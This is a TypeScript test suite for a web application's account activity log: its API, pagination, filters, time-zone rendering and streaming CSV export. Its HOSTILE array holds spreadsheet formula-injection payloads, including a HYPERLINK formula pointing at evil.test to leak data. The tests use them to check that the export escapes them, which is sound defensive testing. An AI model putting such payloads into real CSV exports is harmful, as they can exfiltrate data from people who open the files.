import assert from 'node:assert/strict';
import { get as httpGet } from 'node:http';
import type { IncomingHttpHeaders } from 'node:http';
import { test } from 'node:test';
import { formatInTimeZone } from '../../src/core/time-zone.js';
import { EXPORT_PAGE_ROWS } from '../../src/services/activity-log.js';
import { recordAudit } from '../../src/services/audit-log.js';
import { PASSWORD, dbOf } from '../helpers/authenticator.js';
import { TestClock } from '../helpers/clock.js';
import { parseCsv } from '../helpers/csv.js';
import { hiddenFields, postForm } from '../helpers/forms.js';
import { SYSTEM } from '../helpers/policy.js';
import { GEO_ENV, IP, UA, browserAt, signIn } from '../helpers/security.js';
import { startTestServer } from '../helpers/server.js';

// Summer: New York is GMT-4, and Kolkata (a half-hour offset) is already on the next day.
const T0 = Date.UTC(2026, 6, 1, 23, 45, 10);

async function world(t: { after(fn: () => Promise<void>): void }) {
  const clock = new TestClock(T0);
  const server = await startTestServer({ clock, env: GEO_ENV });
  t.after(() => server.close());
  const org = await server.services.accounts.createOrganisation('Org', null, SYSTEM);
  const member = await server.services.accounts.createUser({ orgId: org.id, email: `ada-${Date.now()}@example.com`, password: PASSWORD }, SYSTEM);
  const laptop = browserAt(server.url, UA.chromeMac, IP.sanFrancisco);
  assert.equal((await signIn(laptop, member.email)).status, 200);
  return { clock, server, org, member, laptop };
}

interface ActivityJson {
  id: number;
  type: string;
  category: string;
  summary: string;
  occurredAt: string;
  occurredAtLocal: string;
  ip: string | null;
  device: string | null;
  userAgent: string | null;
}

// User-Agents an attacker chose: each would be a formula in a spreadsheet, one with commas and quotes as well.
const HOSTILE = ['=HYPERLINK("http://evil.test/?leak","click me"), really', '+SUM(1,2)', '-2+3', '@cmd'];

test('activity API: own events only, newest first, paginated, filterable, times in the user’s zone', async (t) => {
  const w = await world(t);
  for (const ua of HOSTILE) {
    w.clock.advance(1_000);
    assert.equal((await signIn(browserAt(w.server.url, ua, IP.london), w.member.email, 'wrong password here 1')).status, 401);
  }
  w.clock.advance(1_000);
  assert.equal((await w.laptop.request('PUT', '/api/v1/me/time-zone', { timeZone: 'Asia/Kolkata' })).status, 200);
  // Another member's activity stays theirs.
  const bob = await w.server.services.accounts.createUser({ orgId: w.org.id, email: `bob-${Date.now()}@example.com`, password: PASSWORD }, SYSTEM);
  assert.equal((await signIn(browserAt(w.server.url, UA.firefoxLinux, IP.berlin), bob.email)).status, 200);

  const all = await w.laptop.get('/api/v1/activity');
  assert.equal(all.status, 200, all.text);
  assert.equal(all.json?.timeZone, 'Asia/Kolkata');
  const events = all.json?.events as ActivityJson[];
  assert.deepEqual(
    events.map((e) => e.type),
    ['time_zone.changed', 'sign_in.failed', 'sign_in.failed', 'sign_in.failed', 'sign_in.failed', 'sign_in.succeeded'],
  );
  assert.ok(events.every((e, i) => i === 0 || e.id < events[i - 1]!.id), 'newest first');
  assert.equal(events[1]?.summary, 'Sign-in failed (wrong password)');
  assert.equal(events[1]?.userAgent, '@cmd');
  assert.equal(events[5]?.device, 'Chrome on macOS');
  assert.equal(events[5]?.occurredAt, new Date(T0).toISOString());
  assert.equal(events[5]?.occurredAtLocal, '2026-07-02 05:15 (GMT+5:30)');
  assert.equal(all.json?.nextCursor, null);

  // Pages of two, following the cursor, give the same events once each.
  const seen: number[] = [];
  let cursor: string | null = null;
  do {
    const res = await w.laptop.get(`/api/v1/activity?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
    assert.equal(res.status, 200, res.text);
    seen.push(...(res.json?.events as ActivityJson[]).map((e) => e.id));
    cursor = res.json?.nextCursor as string | null;
  } while (cursor);
  assert.deepEqual(seen, events.map((e) => e.id));

  const signIns = (await w.laptop.get('/api/v1/activity?type=sign_in')).json?.events as ActivityJson[];
  assert.equal(signIns.length, 5);
  assert.ok(signIns.every((e) => e.category === 'sign_in'));
  const settings = (await w.laptop.get('/api/v1/activity?type=settings,sign_out')).json?.events as ActivityJson[];
  assert.deepEqual(settings.map((e) => e.summary), ['Time zone set to Asia/Kolkata']);

  for (const [query, code] of [
    ['type=nonsense', 'activity_type_invalid'],
    ['type=provider.created', 'activity_type_invalid'],
    ['limit=0', 'invalid_request'],
    ['limit=abc', 'invalid_request'],
    ['cursor=not-a-cursor', 'cursor_invalid'],
  ] as const) {
    const res = await w.laptop.get(`/api/v1/activity?${query}`);
    assert.equal(res.status, 400, query);
    assert.equal(res.json?.error?.code, code, query);
  }
  assert.equal((await browserAt(w.server.url, UA.chromeMac, IP.london).get('/api/v1/activity')).status, 401);
});

test('CSV export: an attachment whose fields escape commas, quotes and formula-leading characters', async (t) => {
  const w = await world(t);
  for (const ua of HOSTILE) {
    w.clock.advance(1_000);
    assert.equal((await signIn(browserAt(w.server.url, ua, IP.london), w.member.email, 'wrong password here 1')).status, 401);
  }

  const res = await w.laptop.get('/api/v1/activity/export');
  assert.equal(res.status, 200, res.text);
  assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
  assert.equal(res.headers.get('content-disposition'), 'attachment; filename="security-activity-2026-07-01.csv"');
  // The raw text: the hostile agent is quoted, its quotes doubled, and an apostrophe in front.
  assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.test/?leak"",""click me""), really"`), res.text);
  assert.ok(!res.text.includes(`,'+SUM(1,2),`), 'a field with a comma is quoted');
  assert.ok(res.text.includes(`"'+SUM(1,2)"`));

  const rows = parseCsv(res.text);
  assert.deepEqual(rows[0], ['time_utc', 'time_local (UTC)', 'event', 'category', 'description', 'ip_address', 'device', 'user_agent']);
  const body = rows.slice(1);
  assert.equal(body.length, 5);
  assert.ok(body.every((r) => r.length === 8), 'commas inside fields do not split them');
  for (const row of body) {
    for (const field of row) assert.doesNotMatch(field, /^[=+\-@\t\r]/, `no field a spreadsheet would run: ${field}`);
  }
  const agents = body.map((r) => r[7]);
  assert.deepEqual(agents, ["'@cmd", "'-2+3", "'+SUM(1,2)", `'${HOSTILE[0]}`, UA.chromeMac]);
  assert.deepEqual(body.map((r) => r[4]).slice(0, 4), Array(4).fill('Sign-in failed (wrong password)'));
  assert.equal(body[4]?.[0], new Date(T0).toISOString());
  assert.equal(body[4]?.[1], '2026-07-01 23:45 (UTC)');

  // The page's download link gives the same file, filtered like the page.
  const page = await w.laptop.get('/account/activity.csv?type=sign_in');
  assert.equal(page.status, 200);
  assert.match(page.headers.get('content-disposition') ?? '', /^attachment; filename="security-activity-/);
  assert.equal(parseCsv(page.text).length, 6);
  assert.equal((await w.laptop.get('/api/v1/activity/export?type=nonsense')).status, 400);
});

/** `count` sign-in failures of the member, oldest first, each naming its number in the User-Agent; some hostile. */
async function manyEvents(w: Awaited<ReturnType<typeof world>>, count: number): Promise<string[]> {
  const agents = Array.from({ length: count }, (_, i) => (i % 97 === 0 ? `${HOSTILE[i % HOSTILE.length]} #${i}` : `Agent #${i}`));
  const db = dbOf(w.server);
  for (let start = 0; start < count; start += 200) {
    const batch = agents.slice(start, start + 200).map((ua, j) => ({
      occurred_at: T0 + 1_000 + (start + j) * 1_000,
      event_type: 'sign_in.failed',
      actor_user_id: w.member.id,
      subject_user_id: w.member.id,
      org_id: w.org.id,
      ip: '192.0.2.7',
      user_agent: ua,
      details: JSON.stringify({ reason: 'wrong_password' }),
    }));
    await db.insertInto('audit_events').values(batch).execute();
  }
  return agents;
}

/** Reads a response up to its first chunk of body, pauses it, and gives back what came so far and a way to read the rest. */
function pausedAfterFirstChunk(url: string, cookie: string): Promise<{ headers: IncomingHttpHeaders; first: string; rest(): Promise<string> }> {
  return new Promise((resolve, reject) => {
    httpGet(url, { headers: { cookie, 'user-agent': UA.chromeMac, 'x-forwarded-for': IP.sanFrancisco } }, (res) => {
      res.setEncoding('utf8');
      res.once('data', (first: string) => {
        res.pause();
        const rest = () =>
          new Promise<string>((done, fail) => {
            let text = '';
            res.on('data', (chunk: string) => (text += chunk));
            res.on('end', () => done(text));
            res.on('error', fail);
            res.resume();
          });
        resolve({ headers: res.headers, first, rest });
      });
      res.on('error', reject);
    }).on('error', reject);
  });
}

test('CSV export streams in keyset pages: every event once, newest first, and other requests are answered while a download is paused mid-way', async (t) => {
  const w = await world(t);
  const total = EXPORT_PAGE_ROWS * 3 + 7;
  const agents = await manyEvents(w, total);
  const cookie = [...w.laptop.cookies].map(([k, v]) => `${k}=${v}`).join('; ');

  const download = await pausedAfterFirstChunk(`${w.server.url}/api/v1/activity/export`, cookie);
  // Sent as it is made: no length known up front.
  assert.equal(download.headers['content-length'], undefined);
  assert.equal(download.headers['transfer-encoding'], 'chunked');
  // While the download waits, the same node answers a session check and a page of the log.
  assert.equal((await w.laptop.get('/api/v1/session')).status, 200);
  assert.equal((await w.laptop.get('/api/v1/activity?limit=5')).status, 200);
  const text = download.first + (await download.rest());

  const rows = parseCsv(text);
  assert.deepEqual(rows[0], ['time_utc', 'time_local (UTC)', 'event', 'category', 'description', 'ip_address', 'device', 'user_agent']);
  const body = rows.slice(1);
  // Every generated event once, newest first, then the sign-in that opened the laptop's session.
  assert.equal(body.length, total + 1);
  const expected = agents.map((ua) => (/^[=+\-@]/.test(ua) ? `'${ua}` : ua)).reverse();
  assert.deepEqual(body.slice(0, total).map((r) => r[7]), expected);
  assert.deepEqual(body[total]?.[7], UA.chromeMac);
  assert.ok(body.every((r) => r.length === 8));
  assert.equal(body[0]?.[0], new Date(T0 + 1_000 + (total - 1) * 1_000).toISOString());
  assert.equal(new Set(body.map((r) => `${r[0]}|${r[7]}`)).size, body.length, 'no event twice at a page boundary');
});

test('CSV export is produced a keyset page at a time: the header, then one chunk per page, only as they are asked for', async (t) => {
  const w = await world(t);
  const total = EXPORT_PAGE_ROWS * 2 + 3;
  await manyEvents(w, total);
  const user = w.member;
  const chunks = w.server.services.activity.exportCsv(user)[Symbol.asyncIterator]();
  const header = await chunks.next();
  assert.equal(parseCsv(String(header.value)).length, 1);
  const first = await chunks.next();
  assert.equal(parseCsv(String(first.value)).length, EXPORT_PAGE_ROWS);
  // Suspended between pages, the export holds no connection: the node keeps answering.
  assert.equal((await w.laptop.get('/api/v1/session')).status, 200);
  const sizes: number[] = [];
  for (let next = await chunks.next(); !next.done; next = await chunks.next()) sizes.push(parseCsv(next.value).length);
  assert.deepEqual(sizes, [EXPORT_PAGE_ROWS, 4]);
  // A bad filter is refused before anything is sent.
  assert.throws(() => w.server.services.activity.exportCsv(user, ['nonsense']), /activity type/i);
});

test('time zones on pages: the activity log and account page in UTC, New York and Kolkata, exact UTC on hover', async (t) => {
  const w = await world(t);
  const fields = await hiddenFields(w.laptop, '/account');
  const cases: Array<[string, string]> = [
    ['UTC', '2026-07-01 23:45 (UTC)'],
    ['America/New_York', '2026-07-01 19:45 (GMT-4)'],
    ['Asia/Kolkata', '2026-07-02 05:15 (GMT+5:30)'],
  ];
  for (const [zone, local] of cases) {
    const saved = await postForm(w.laptop, '/account/time-zone', { ...fields, timeZone: zone });
    assert.equal(saved.status, 200, saved.text);
    assert.match(saved.text, new RegExp(`<option value="${zone}" selected>`));
    assert.ok(saved.text.includes(`Times are now shown in ${zone}.`));
    const page = await w.laptop.get('/account/activity?type=sign_in');
    assert.equal(page.status, 200);
    // The sign-in at T0, in the zone, with the exact UTC time in the title.
    assert.ok(page.text.includes(`<time datetime="${new Date(T0).toISOString()}" title="2026-07-01 23:45:10 UTC">${local}</time>`), `${zone}: ${local}`);
    assert.equal(formatInTimeZone(T0, zone), local);
    const sessions = await w.laptop.get('/account/security/sessions');
    assert.ok(sessions.text.includes(`>${local}</time>`), `sessions page in ${zone}`);
  }

  const bad = await postForm(w.laptop, '/account/time-zone', { ...fields, timeZone: 'Mars/Olympus_Mons' });
  assert.equal(bad.status, 400);
  assert.match(bad.text, /is not a time zone we know/);
  assert.equal(((await w.laptop.get('/api/v1/session')).json?.user as { timeZone: string }).timeZone, 'Asia/Kolkata', 'a refused zone changes nothing');
  const api = await w.laptop.request('PUT', '/api/v1/me/time-zone', { timeZone: 'Nowhere/Special' });
  assert.equal(api.status, 400);
  assert.equal(api.json?.error?.code, 'time_zone_invalid');
  const changes = (await w.laptop.get('/api/v1/activity?type=time_zone.changed')).json?.events as ActivityJson[];
  assert.deepEqual(changes.map((e) => e.summary), ['Time zone set to Asia/Kolkata', 'Time zone set to America/New_York'], 'UTC was already the zone');
});

test('activity page: filter by type, and older pages by cursor', async (t) => {
  const w = await world(t);
  for (let i = 0; i < 30; i++) {
    await recordAudit(dbOf(w.server), T0 + 60_000 + i * 1_000, { type: 'sign_out', actorUserId: w.member.id, subjectUserId: w.member.id, orgId: w.org.id, details: { n: i } });
  }
  const first = await w.laptop.get('/account/activity');
  assert.equal(first.status, 200);
  assert.equal((first.text.match(/<tr data-type=/g) ?? []).length, 25);
  assert.ok(!first.text.includes('>Newest<'));
  const older = /<a href="([^"]+)" rel="next">Older<\/a>/.exec(first.text)?.[1]?.replace(/&amp;/g, '&');
  assert.ok(older, 'an older page');
  const second = await w.laptop.get(older);
  assert.equal((second.text.match(/<tr data-type=/g) ?? []).length, 6, 'the last 5 sign-outs and the sign-in');
  assert.ok(second.text.includes('>Newest</a>'));
  assert.ok(!second.text.includes('rel="next"'));

  const filtered = await w.laptop.get('/account/activity?type=sign_in');
  assert.equal((filtered.text.match(/<tr data-type="sign_in.succeeded"/g) ?? []).length, 1);
  assert.equal((filtered.text.match(/<tr data-type=/g) ?? []).length, 1);
  assert.match(filtered.text, /<option value="sign_in" selected>Sign-ins<\/option>/);
  assert.ok(filtered.text.includes('href="/account/activity.csv?type=sign_in"'));
  const bad = await w.laptop.get('/account/activity?type=nonsense');
  assert.equal(bad.status, 400);
  assert.match(bad.text, /Unknown activity type/);
  assert.equal((await browserAt(w.server.url, UA.chromeMac, IP.london).get('/account/activity')).status, 303);
});
